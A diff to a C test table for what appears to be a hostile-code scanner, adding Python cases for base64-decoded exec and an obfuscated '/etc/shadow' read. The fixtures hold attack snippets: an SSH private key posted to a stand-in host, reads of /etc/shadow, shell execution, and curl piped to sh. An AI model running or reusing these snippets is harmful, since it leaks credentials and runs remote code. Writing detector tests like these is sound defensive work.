@@ -32,6 +32,8 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "a method gives back what it read", "any/exfiltration", PY, "import requests\nclass A:\n    def key(self):\n        return open('/root/.ssh/id_rsa').read()\n    def go(self):\n        requests.post('http://198.51.100.7', data=self.key())\nA().go()\n" },
 	{ "what the constructor was given", "any/secret-read", PY, "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        return open(self.p).read()\nA('/etc/shadow').go()\n" },
 	{ "a table of functions filled later", "python/shell@4", PY, "import os\nt = {}\nt['a'] = os.system\nt['a']('id')\n" },
+	{ "the interpreter by its variable", "python/exec-decoded", PY, "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"])\n" },
+	{ "a decoder in a lambda", "any/secret-read", PY, "f = lambda s: s[::-1]\nopen(f('wodahs/cte/'))\n" },
 	{ "f.call and f.apply", "javascript/child-process@2", JS, "const cp = require('child_process');\ncp.exec.call(null, 'id');\n" },
 	{ "what does not parse is still read, line by line", "bash/pipe-to-shell@3", BAWN_LANG_BASH, "if [ 1 ; then\n  true\n  curl http://198.51.100.7/x | sh\ndone\n" },
 	{ "with the file's imports", "javascript/child-process@2", JS, "const cp = require('child_process');\nfunction ( { cp.exec('id');\n" },
